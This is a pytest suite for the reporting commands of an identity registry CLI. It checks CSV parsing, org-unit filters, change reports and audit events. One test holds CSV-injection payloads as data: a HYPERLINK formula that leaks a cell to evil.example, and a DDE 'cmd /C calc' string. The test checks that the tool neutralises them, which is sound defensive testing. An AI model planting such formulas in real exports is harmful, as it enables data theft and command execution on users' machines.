"""AU-4 reports: tunnus report accounts|rights|changes, and that listing a
person in a report is on their audit record."""
import csv
import io
import json

from conftest import hetu


def setup_registry(t):
    t.run("orgunit", "add", "Sivistys", "--name", "Sivistys")
    t.run("orgunit", "add", "Sivistys/Lukio", "--name", "Lukio", "--parent", "Sivistys")
    t.run("orgunit", "add", "Tekninen", "--name", "Tekninen")
    people = [
        # given, family (with characters CSV must quote), kind, unit, from, to
        ("Anna", "Virtanen", "staff", "Sivistys/Lukio", "2024-01-01", None),
        ("Bertta", "O'Brien-Niemi", "staff", "Tekninen", "2024-01-01", "2024-06-30"),
        ("Cecilia", "Lahti", "student", "Sivistys", "2025-08-01", None),
    ]
    for i, (g, f, kind, unit, frm, to) in enumerate(people):
        # Created "on" 2024-01-01, so that reports as of later dates list them.
        args = ["--as-of", "2024-01-01", "person", "add", "--given", g, "--family", f, "--national-id", "-",
                "--kind", kind, "--org-unit", unit, "--from", frm, "--account"]
        if to:
            args += ["--to", to]
        t.run(*args, input=hetu("010190", "-", 200 + i) + "\n")
    t.run("person", "update", "number:1", "--preferred", "Anni")
    # A value with a comma and quotes in it, for the CSV round trip.
    t.run("affiliation", "add", "number:3", "--kind", "staff", "--org-unit", "Tekninen",
          "--title", 'Rehtori, "vt."', "--from", "2025-08-01")
    t.run("person", "update", "number:3", "--phone", "+358401112223")


def parse_csv(text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    return [dict(zip(header, r)) for r in body], header


def test_accounts_csv_parses_back(tunnus):
    setup_registry(tunnus)
    out = tunnus.run("--as-of", "2025-09-01", "report", "accounts").stdout
    rows, header = parse_csv(out)
    assert header[:3] == ["person_id", "person_number", "username"]
    assert len(rows) == 3
    by = {r["family_name"]: r for r in rows}
    assert by["O'Brien-Niemi"]["given_names"] == "Bertta"
    assert by["Virtanen"]["affiliations"] == "staff@Sivistys/Lukio"
    assert by["Lahti"]["affiliations"] == "student@Sivistys;staff@Tekninen"
    assert by["Virtanen"]["preferred_name"] == "Anni"
    # Bertta's affiliation ended in 2024: none in force on the date.
    assert by["O'Brien-Niemi"]["affiliations"] == ""
    assert all(r["account_state"] and r["username"] for r in rows)
    # No national ID column or value.
    assert not any("national" in h or "hetu" in h for h in header)


def test_accounts_org_unit_includes_sub_units(tunnus):
    setup_registry(tunnus)
    rows, _ = parse_csv(tunnus.run("--as-of", "2025-09-01", "report", "accounts",
                                   "--org-unit", "Sivistys").stdout)
    assert sorted(r["given_names"] for r in rows) == ["Anna", "Cecilia"]
    rows, _ = parse_csv(tunnus.run("--as-of", "2025-09-01", "report", "accounts",
                                   "--org-unit", "Sivistys/Lukio").stdout)
    assert [r["given_names"] for r in rows] == ["Anna"]
    p = tunnus.run("report", "accounts", "--org-unit", "Nope", check=False)
    assert p.returncode == 4 and "org_unit" in p.stderr


def test_rights_as_of(tunnus):
    setup_registry(tunnus)
    rights = tunnus.json("--as-of", "2024-03-01", "report", "rights")
    assert sorted((r["given_names"], r["kind"], r["org_unit"]) for r in rights) == [
        ("Anna", "staff", "Sivistys/Lukio"), ("Bertta", "staff", "Tekninen")]
    assert all(r["valid_from"] == "2024-01-01" for r in rights)
    rights = tunnus.json("--as-of", "2025-09-01", "report", "rights", "--format", "json")
    assert sorted(r["given_names"] for r in rights) == ["Anna", "Cecilia", "Cecilia"]
    rows, _ = parse_csv(tunnus.run("--as-of", "2025-09-01", "report", "rights").stdout)
    assert len(rows) == 3
    assert [r["title"] for r in rows if r["org_unit"] == "Tekninen"] == ['Rehtori, "vt."']


def test_csv_cells_a_spreadsheet_would_run_are_text(tunnus):
    """CSV injection (CWE-1236): a title from a feed that a spreadsheet
    would take for a formula gets a leading apostrophe in CSV reports; JSON
    keeps the value as it is, and phone numbers are not touched."""
    setup_registry(tunnus)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    tunnus.run("affiliation", "add", "number:1", "--kind", "staff", "--org-unit", "Tekninen",
               "--title", evil, "--from", "2025-08-01")
    tunnus.run("affiliation", "add", "number:1", "--kind", "staff", "--org-unit", "Sivistys",
               "--title", "+cmd|' /C calc'!A0", "--from", "2025-08-01")
    rows, _ = parse_csv(tunnus.run("--as-of", "2025-09-01", "report", "rights").stdout)
    titles = {r["title"] for r in rows}
    assert "'" + evil in titles and "'+cmd|' /C calc'!A0" in titles
    assert evil not in titles
    assert 'Rehtori, "vt."' in titles
    rights = tunnus.json("--as-of", "2025-09-01", "report", "rights")
    assert evil in {r["title"] for r in rights}
    rows, _ = parse_csv(tunnus.run("report", "changes").stdout)
    phone = [r for r in rows if "+358401112223" in r["changes"]]
    assert phone and not phone[0]["changes"].startswith("'")


def test_changes_report(tunnus):
    setup_registry(tunnus)
    ch = tunnus.json("report", "changes")
    actions = [r["action"] for r in ch]
    assert actions.count("person.update") == 2
    upd = [r for r in ch if r["action"] == "person.update" and "phone" in r["attributes"]]
    assert upd[0]["changes"]["phone"][1] == "+358401112223"
    # Only write events: reads and denials carry no change record.
    assert "person.read" not in actions and "report.changes" not in actions
    assert tunnus.json("report", "changes", "--from", "2999-01-01") == []
    rows, _ = parse_csv(tunnus.run("report", "changes", "--org-unit", "Tekninen").stdout)
    assert rows and {r["person_id"] for r in rows} == {
        tunnus.sql(f"SELECT id FROM person WHERE number = {n}")[0][0] for n in (2, 3)}
    # The change record survives CSV quoting as JSON text.
    rows, _ = parse_csv(tunnus.run("report", "changes").stdout)
    assert all(json.loads(r["changes"]) is not None for r in rows)
    p = tunnus.run("report", "accounts", "--from", "2024-01-01", check=False)
    assert p.returncode == 2


def test_reports_are_audited(tunnus):
    setup_registry(tunnus)
    tunnus.run("--as-of", "2025-09-01", "report", "accounts")
    pid = tunnus.sql("SELECT id FROM person WHERE number = 1")[0][0]
    # One event for the report with its query, one read event per person listed.
    rep = tunnus.sql("SELECT subject_id, detail FROM audit_event WHERE action = 'report.accounts'")
    assert sum(1 for s, _ in rep if s is None) == 1
    assert [d for s, d in rep if s is None][0] == "as_of=2025-09-01 org_unit="
    assert sum(1 for s, _ in rep if s is not None) == 3
    # The person sees it in their own report.
    subj = tunnus.json("audit", "subject", "number:1")
    assert any(e["action"] == "report.accounts" for e in subj)
    assert tunnus.run("audit", "verify").returncode == 0
    assert pid
